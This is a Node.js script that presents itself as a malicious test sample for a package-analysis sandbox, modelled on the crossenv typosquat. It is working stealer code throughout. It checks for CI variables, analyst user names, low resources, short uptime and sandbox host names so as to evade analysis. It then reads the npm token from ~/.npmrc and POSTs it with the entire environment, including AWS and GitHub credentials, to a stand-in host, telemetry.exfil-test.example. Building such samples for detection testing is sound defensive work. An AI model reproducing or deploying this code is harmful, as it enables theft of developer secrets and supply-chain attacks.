'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// An environment stealer in the line of crossenv (Aug 2017: a typosquat of
// cross-env whose postinstall sent process.env away) with the sandbox
// checks later stealers added before doing anything: no CI variables, a
// user name that is not an analyst's or a sandbox's, at least 2 CPUs and
// 2 GiB of memory, up for more than a minute, a host name without
// "sandbox"/"malware"/"cuckoo". Only then does it read ~/.npmrc and POST the
// token and the whole environment (NPM_TOKEN, AWS keys, GITHUB_TOKEN) over
// HTTPS to telemetry.exfil-test.example. The sandbox must look like an
// ordinary developer machine, so the chain must reach step 3. Prints
// `mal-evasive-env: step N ...`; exits 0 whatever fails, after 5 s at the
// latest.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const say = (msg) => console.log(`mal-evasive-env: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

const CI_VARS = ['CI', 'CONTINUOUS_INTEGRATION', 'GITHUB_ACTIONS', 'GITLAB_CI', 'TRAVIS', 'CIRCLECI',
  'JENKINS_URL', 'BUILDKITE', 'TF_BUILD', 'CODEBUILD_BUILD_ID'];
const ANALYST_USERS = ['sandbox', 'malware', 'virus', 'analyst', 'cuckoo', 'test', 'user', 'john', 'pkgtrace',
  'runner', 'docker', 'vagrant'];
const user = os.userInfo().username;
const checks = [
  ['no CI variable', !CI_VARS.some((v) => process.env[v])],
  [`user ${user}`, !ANALYST_USERS.includes(user.toLowerCase())],
  [`${os.cpus().length} CPUs`, os.cpus().length >= 2],
  [`${Math.round(os.totalmem() / 2 ** 20)} MiB`, os.totalmem() >= 2 * 2 ** 30],
  [`up ${Math.round(os.uptime())} s`, os.uptime() > 60],
  [`host ${os.hostname()}`, !/sandbox|malware|cuckoo|analysis/i.test(os.hostname())],
];
const failed = checks.filter(([, ok]) => !ok).map(([what]) => what);
if (failed.length) {
  say(`step 1 looks like a sandbox (${failed.join(', ')}): doing nothing`);
  process.exit(0);
}
say(`step 1 looks like a real machine (${checks.map(([what]) => what).join(', ')})`);

let npm = '';
try {
  npm = (/_authToken\s*=\s*(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')) || [])[1] || '';
} catch (e) { /* none */ }
say(`step 2 read ~/.npmrc (token ${npm ? 'found' : 'missing'}), ${Object.keys(process.env).length} variables`);

const body = JSON.stringify({ npm, env: process.env, user, host: os.hostname() });
const req = https.request({
  hostname: 'telemetry.exfil-test.example', port: 443, path: '/v1/collect', method: 'POST', timeout: 2500,
  headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
}, (res) => {
  say(`step 3 POST https://telemetry.exfil-test.example/v1/collect: status ${res.statusCode}`);
  res.resume();
  res.on('end', () => process.exit(0));
});
req.on('error', (e) => { say(`step 3 POST failed: ${errText(e)}`); process.exit(0); });
req.on('timeout', () => req.destroy(new Error('timeout')));
req.end(body);
